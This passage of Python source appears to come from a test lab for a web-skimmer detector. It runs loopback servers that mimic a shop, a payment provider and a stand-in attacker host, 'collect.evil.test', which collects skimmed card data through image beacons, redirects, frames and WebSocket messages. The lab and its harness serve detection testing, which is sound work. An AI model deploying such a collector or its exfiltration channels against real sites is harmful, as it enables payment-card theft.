                reply = _json(400, {"error": {"type": "invalid_request", "message": "card number required"}}, [])
            elif path == "/v1/tokens":
                reply = _json(200, {"id": "tok_" + secrets.token_hex(12), "object": "token",
                                    "card": {"last4": digits[-4:]}}, [])
            else:
                reply = _json(200, {"ok": True, "last4": digits[-4:]}, [])
        else:
            reply = _json(404, {"error": {"type": "invalid_request", "message": "not found"}}, [])
        reply.headers.extend(cors)
        return reply

    # ---- collect.evil.test

    def _evil(self, method: str, path: str) -> _Reply:
        cors = [("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*"),
                ("Access-Control-Allow-Methods", "GET, POST, PUT, OPTIONS")]
        if method == "OPTIONS":
            return _Reply(204, b"", "text/plain", cors)
        if path.endswith(".gif"):
            return _Reply(200, GIF, "image/gif", [*cors, ("Cache-Control", "no-store")])
        if path == "/frame.html":
            return _Reply(200, FRAME_PAGE.encode(), "text/html; charset=utf-8")
        if path == "/r":
            return _Reply(302, b"", "text/plain", [("Location", f"http://{SHOP}:{self.port}/done")])
        return _Reply(200, b"ok", "text/plain", cors)


# --------------------------------------------------------------------------- HTTP and WebSocket plumbing


class _Server(LoopbackServer):
    def __init__(self, port: int, lab: _Lab, stopping: threading.Event) -> None:
        self.lab = lab
        self.stopping = stopping
        super().__init__(port, _Handler)


class _WebSocketClosed(Exception):
    """The peer went away, sent garbage, or the lab is stopping."""


def _unmask(data: bytes, mask: bytes) -> bytes:
    if not data:
        return data
    n = len(data)
    key = (mask * (n // 4 + 1))[:n]
    return (int.from_bytes(data, "big") ^ int.from_bytes(key, "big")).to_bytes(n, "big")


def ws_accept(key: str) -> str:
    """The ``Sec-WebSocket-Accept`` value for a client's ``Sec-WebSocket-Key`` (RFC 6455 §4.2.2)."""
    return base64.b64encode(hashlib.sha1(key.encode() + WS_GUID).digest()).decode()


class _Handler(LoopbackHandler):
    server: _Server

    def _dispatch(self) -> None:
        raw_host = self.headers.get("Host", "").strip().lower()
        host = raw_host.rsplit(":", 1)[0] if not raw_host.endswith("]") else raw_host
        path, _, query = self.path.partition("?")
        headers = {k.lower(): v for k, v in self.headers.items()}
        try:
            length = int(headers.get("content-length") or 0)
        except ValueError:
            length = -1
        if length < 0 or length > MAX_READ or "chunked" in headers.get("transfer-encoding", "").lower():
            self.close_connection = True
            self._send(_text(413, "body too large or not length-delimited\n"))
            return
        body = self.rfile.read(length) if length else b""
        if host == EVIL and path == "/ws" and "websocket" in headers.get("upgrade", "").lower():
            self.server.lab.record(host, self.command, path, query, body, headers.get("cookie", ""))
            self._websocket(query, headers)
            return
        try:
            reply = self.server.lab.handle(self.command, host, path, query, headers, body)
        except Exception as exc:  # pragma: no cover - defensive: never kill the server
            reply = _text(500, f"internal error: {exc!r}\n")
        self._send(reply)

    def _send(self, reply: _Reply) -> None:
        self.send_response(reply.status)
        self.send_header("Content-Type", reply.ctype)
        for name, value in reply.headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(reply.body)))
        self.end_headers()
        if self.command != "HEAD" and reply.body:
            self.wfile.write(reply.body)

    # ---- WebSocket (RFC 6455, server side, just enough for a collector)

    def _websocket(self, query: str, headers: dict[str, str]) -> None:
        self.close_connection = True
        key = headers.get("sec-websocket-key", "").strip()
        try:
            key_ok = len(base64.b64decode(key, validate=True)) == 16
        except ValueError:
            key_ok = False
        connection = {t.strip() for t in headers.get("connection", "").lower().split(",")}
        if self.command != "GET" or not key_ok or "upgrade" not in connection or \
                headers.get("sec-websocket-version", "").strip() != "13":
            self._send(_Reply(400, b"bad websocket handshake\n", "text/plain",
                              [("Sec-WebSocket-Version", "13")]))
            return
        self.send_response(101, "Switching Protocols")
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", ws_accept(key))
        self.end_headers()
        self.wfile.flush()
        self.connection.settimeout(WS_IDLE_TIMEOUT)
        cookie = headers.get("cookie", "")
        message = bytearray()
        opcode = 0
        try:
            while not self.server.stopping.is_set():
                fin, op, payload = self._ws_frame()
                if op == 0x8:  # close: echo the status code, then end
                    self._ws_send(0x8, payload[:2])
                    return
                if op == 0x9:
                    self._ws_send(0xA, payload)
                    continue
                if op == 0xA:
                    continue
                if op in (0x1, 0x2):
                    if message or opcode:
                        raise self._ws_fail(1002)  # a new message inside a fragmented one
                    opcode = op
                elif op != 0x0 or not opcode:
                    raise self._ws_fail(1002)  # unknown opcode, or a continuation of nothing
                message += payload
                if len(message) > MAX_WS_MESSAGE:
                    raise self._ws_fail(1009)
                if fin:
                    self.server.lab.record(EVIL, "WS", "/ws", query, bytes(message), cookie, "websocket")
                    message.clear()
                    opcode = 0
        except (_WebSocketClosed, OSError):
            return

    def _ws_read(self, n: int) -> bytes:
        data = self.rfile.read(n) if n else b""
        if len(data) != n:
            raise _WebSocketClosed
        return data

    def _ws_frame(self) -> tuple[bool, int, bytes]:
        b0, b1 = self._ws_read(2)
        fin, rsv, op = bool(b0 & 0x80), b0 & 0x70, b0 & 0x0F
        masked, length = bool(b1 & 0x80), b1 & 0x7F
        if length == 126:
            (length,) = struct.unpack("!H", self._ws_read(2))
        elif length == 127:
            (length,) = struct.unpack("!Q", self._ws_read(8))
        if rsv or not masked:
            raise self._ws_fail(1002)  # no extensions were negotiated; clients must mask
        if op >= 0x8 and (not fin or length > 125):
            raise self._ws_fail(1002)
        if length > MAX_WS_FRAME:
            raise self._ws_fail(1009)
        mask = self._ws_read(4)
        return fin, op, _unmask(self._ws_read(length), mask)

    def _ws_send(self, op: int, payload: bytes) -> None:
        n = len(payload)
        if n < 126:
            head = struct.pack("!BB", 0x80 | op, n)
        elif n < 1 << 16:
            head = struct.pack("!BBH", 0x80 | op, 126, n)
        else:
            head = struct.pack("!BBQ", 0x80 | op, 127, n)
        self.wfile.write(head + payload)

    def _ws_fail(self, code: int) -> _WebSocketClosed:
        with contextlib.suppress(OSError):
            self._ws_send(0x8, struct.pack("!H", code))
        return _WebSocketClosed()


# --------------------------------------------------------------------------- the lab


class SkimmerLab:
    """``with SkimmerLab() as lab: page.goto(lab.case_url("image-b64-click"))``."""

    def __init__(self, port: int = 0) -> None:
        self._wanted_port = port
        self._lab = _Lab()
        self._stopping = threading.Event()
        self._server: _Server | None = None
        self._lock = threading.Lock()

    def start(self) -> SkimmerLab:
        with self._lock:
            if self._server is None:
                self._stopping = threading.Event()
                server = _Server(self._wanted_port, self._lab, self._stopping)
                self._lab.port = server.port
                server.serve_in_background("skimmer-lab")
                self._server = server
        return self

    def stop(self) -> None:
        with self._lock:
            server, self._server = self._server, None
        self._stopping.set()
        if server is not None:
            server.stop(timeout=1)

    def __enter__(self) -> SkimmerLab:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def port(self) -> int:
        if not self._lab.port:
            raise RuntimeError("SkimmerLab is not started")
        return self._lab.port

    @property
    def hosts(self) -> dict[str, str]:
        return {host: "127.0.0.1" for host in LAB_HOSTS}

    def url(self, path: str = "/", host: str = SHOP) -> str:
        return f"http://{host}:{self.port}{path}"

    def case_url(self, case_id: str) -> str:
        if case_id not in CASES:
            raise KeyError(f"unknown case {case_id!r}")
        return self.url(f"/case/{case_id}")

    def script_url(self, case_id: str) -> str:
        case = CASES[case_id]
        return self.url(f"/s/{case.id}.js", host=case.script_host)

    @property
    def received(self) -> list[Received]:
        """What reached collect.evil.test, the shop's first-party collector, and shop requests that
        carry the skimmer cookie (HTTP requests and WebSocket messages), oldest first."""
        with self._lab.lock:
            return list(self._lab.received)

    @property
    def benign_received(self) -> list[Received]:
        """What the payment provider (POSTs) and the analytics host received."""
        with self._lab.lock:
            return list(self._lab.benign)

    def received_for(self, case_id: str) -> list[Received]:
        return [hit for hit in self.received if hit.case == case_id]

    def clear(self) -> None:
        with self._lab.lock:
            self._lab.received.clear()
            self._lab.benign.clear()


def site_config(lab: SkimmerLab, case_id: str, *, second_pass: bool = True) -> dict[str, Any]:
    """The plain-dict site config (skimguard's loader) that walks one case's checkout; with the
    second pass the case needs (``Case.second_pass``) unless ``second_pass`` is false."""
    if case_id not in CASES:
        raise KeyError(f"unknown case {case_id!r}")
    extra: dict[str, Any] = {}
    if second_pass and CASES[case_id].second_pass:
        extra["second_pass"] = CASES[case_id].second_pass
    return {
        **extra,
        "name": "lab",
        "base_url": lab.url("/"),
        "payment_hosts": [PSP],
        "hosts": lab.hosts,
        "block_unmapped_hosts": True,
        "step_timeout": "8s",
        "journey_timeout": "40s",
        "dwell": "1s",
        "journeys": [{"name": "checkout", "steps": [
            {"goto": f"/case/{case_id}", "page": "payment"},
            {"fill_card": {"number": "#cc-number", "expiry": "#cc-exp", "cvc": "#cc-cvc", "name": "#cc-name"}},
            {"click": "#pay", "page": "done"},
            {"wait_for": "#done", "timeout": "5s"},
            {"wait": "2.5s"},  # lets delayed skimmers fire
        ]}],
    }
